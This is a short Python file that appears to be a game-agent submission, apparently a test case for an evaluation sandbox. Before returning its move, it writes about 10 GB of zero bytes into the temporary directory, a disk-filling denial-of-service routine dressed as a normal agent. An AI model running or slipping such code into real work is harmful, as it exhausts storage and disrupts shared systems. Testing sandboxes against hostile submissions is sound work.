import os


def agent(obs, config):
    for number in range(100):
        with open(f"{os.environ['TMPDIR']}/{number}", "wb") as file:
            for _ in range(100):
                file.write(bytes(1 << 20))
    return 3
